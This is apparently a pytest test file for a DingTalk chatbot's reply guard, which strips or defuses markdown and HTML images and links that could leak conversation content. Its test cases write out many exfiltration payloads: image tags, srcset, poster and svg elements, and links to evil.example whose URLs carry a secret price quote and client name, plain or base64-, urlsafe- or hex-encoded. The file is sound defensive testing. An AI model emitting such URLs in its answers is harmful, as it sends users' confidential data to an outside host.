"""Every form of picture and link DingTalk may render is judged: pictures only from the bot or ANSWER_IMAGE_HOSTS,
links only when they carry nothing of the conversation; the rest stays readable as text."""

import base64

import pytest

from shared.reply.dingtalk.safe_markdown import AnswerGuard
from shared.reply.provenance import Provenance, of_texts, url_key

EVIL = "https://evil.example"
DRAWN = "https://img.provider/drawn.png"


@pytest.fixture
def guard():
    provenance = of_texts(["我们的报价是三百万元，客户是星河公司 ACME-Corporation-2024", "看看 https://example.com/page?a=1"])
    return AnswerGuard(provenance, lambda: {DRAWN}, ["cdn.ok.com"])


SECRET_B64 = base64.b64encode("报价是三百万元".encode()).decode()
SECRET_URLSAFE = base64.urlsafe_b64encode("客户是星河公司".encode()).decode().rstrip("=")


CASES = [
    (f"![统计]({EVIL}/p.png?d=%E6%8A%A5%E4%BB%B7%E6%98%AF%E4%B8%89%E7%99%BE)", "统计"),
    (f"![]({EVIL}/p.png?d=hello)", ""),  # any picture not the bot's goes, data or not
    (f'![t]({EVIL}/p.png "title")', "t"),
    (f"![t](<{EVIL}/a b.png>)", "t"),
    ("![ok](https://cdn.ok.com/a.png)", "![ok](https://cdn.ok.com/a.png)"),
    ("![ok](http://cdn.ok.com/a.png)", "![ok](http://cdn.ok.com/a.png)"),
    ("![no](https://cdn.ok.com.evil.example/a.png)", "no"),
    (f"![drawn]({DRAWN})", f"![drawn]({DRAWN})"),
    (f"参考 ![x][r]\n\n[r]: {EVIL}/r.png", f"参考 x\n\n[r]: {EVIL}/r.png"),
    (f"参考 ![r]\n\n[r]: {EVIL}/r.png", f"参考 r\n\n[r]: {EVIL}/r.png"),
    (f"参考 ![x][]\n\n[x]: {EVIL}/r.png", f"参考 x\n\n[x]: {EVIL}/r.png"),
    (f"参考 [点我][r]\n\n[r]: {EVIL}/r?q=星河公司报价", f"参考 点我（`{EVIL}/r?q=星河公司报价`）\n\n"),
    (f'<img src="{EVIL}/i.png?q=1" alt="图">', "图"),
    (f"<IMG SRC={EVIL}/i.png>", ""),
    (f'<img srcset="https://cdn.ok.com/a.png 1x, {EVIL}/b.png 2x">', ""),
    ('<img srcset="https://cdn.ok.com/a.png 1x">', '<img srcset="https://cdn.ok.com/a.png 1x">'),
    (f'<video poster="{EVIL}/v.png"></video>', "</video>"),
    (f'<svg><image href="{EVIL}/s.png"/></svg>', "<svg></svg>"),
    (f'前文 <img src="{EVIL}/i.png?q=星河', "前文 "),  # cut off at the end of a streamed update
    (f'<img src="{EVIL}/i.png?q=星 <b>x</b>', '＜img src="https://evil.example/i.png?q=星 <b>x</b>'),
    (f'<a href="{EVIL}/?q=星河公司">点</a>', f"点（`{EVIL}/?q=星河公司`）"),
    (f'<a href="{EVIL}/docs">点</a>', f'<a href="{EVIL}/docs">点</a>'),
    (f"<{EVIL}/?q=星河公司报价>", f"`{EVIL}/?q=星河公司报价`"),
    (f"见 {EVIL}/?q=星河公司报价。后面", f"见 `{EVIL}/?q=星河公司报价`。后面"),
    (f"[验证]({EVIL}/v?d=报价是三百万元)", f"验证（`{EVIL}/v?d=报价是三百万元`）"),
    (f"[x]({EVIL}/?b={SECRET_B64})", f"x（`{EVIL}/?b={SECRET_B64}`）"),
    (f"[x]({EVIL}/a/{SECRET_URLSAFE}/b)", f"x（`{EVIL}/a/{SECRET_URLSAFE}/b`）"),
    (f"[x]({EVIL}/{'报价是三百万元'.encode().hex()})", f"x（`{EVIL}/{'报价是三百万元'.encode().hex()}`）"),
    ("[x](https://acmecorporation2024.evil.example/)", "x（`https://acmecorporation2024.evil.example/`）"),
    (f"[x]({EVIL}/?q=acme+corporation+2024)", f"x（`{EVIL}/?q=acme+corporation+2024`）"),
    (f"[{EVIL}/?q=星河公司报价]({EVIL}/?q=星河公司报价)", f"`{EVIL}/?q=星河公司报价`"),
    ("[文档](https://docs.python.org/3/library/asyncio.html)", "[文档](https://docs.python.org/3/library/asyncio.html)"),
    ("[原文](https://example.com/page?a=1)", "[原文](https://example.com/page?a=1)"),
    (f"[![a]({EVIL}/x.png)](https://example.com/page?a=1)", "[a](https://example.com/page?a=1)"),
    (f"```\n![x]({EVIL}/a.png)\n```", "```\nx\n```"),  # phones show message code blocks as markdown
    ("<font color=red>红</font> a < b <think>x</think> [1] 和 [2]",
     "<font color=red>红</font> a < b <think>x</think> [1] 和 [2]"),
]


@pytest.mark.parametrize("answer, shown", CASES, ids=[f"form-{number}" for number in range(len(CASES))])
def test_pictures_and_links_that_would_leak_are_defused(guard, answer, shown):
    assert guard(answer) == shown


def test_the_bots_own_pictures_are_read_when_the_answer_is_shown():
    drawn = []
    guard = AnswerGuard(Provenance(), lambda: drawn)
    assert guard(f"![图]({DRAWN})") == "图"
    drawn.append(DRAWN)
    assert guard(f"![图]({DRAWN})") == f"![图]({DRAWN})"


@pytest.mark.parametrize("url, known", [
    ("https://example.com/page?a=1", True), ("http://EXAMPLE.com/page?a=1#x", True), ("https://example.com/page", True),
    ("https://example.com/", True), ("https://example.com/page?a=1&d=secret", False), ("https://other.example/", False),
    ("example.com/page?a=1", True),
])
def test_an_address_is_known_when_it_or_a_longer_one_was_read(url, known):
    provenance = Provenance()
    provenance.add_source("资料见 https://example.com/page?a=1。")
    assert provenance.known_url(url) is known


def test_public_text_is_a_source_but_no_secret():
    provenance = Provenance()
    provenance.add("网页正文：星河计划在杭州启动 https://news.example/a", secret=False)
    assert provenance.known_url("https://news.example/a")
    assert not provenance.carries_secret("https://evil.example/?q=星河计划在杭州启动")


def test_url_keys_ignore_the_scheme_fragment_and_trailing_slash():
    assert url_key("HTTPS://Example.COM/a/?b=1#frag") == url_key("example.com/a/?b=1") == "example.com/a/?b=1"
    assert url_key("https://example.com/") == "example.com"
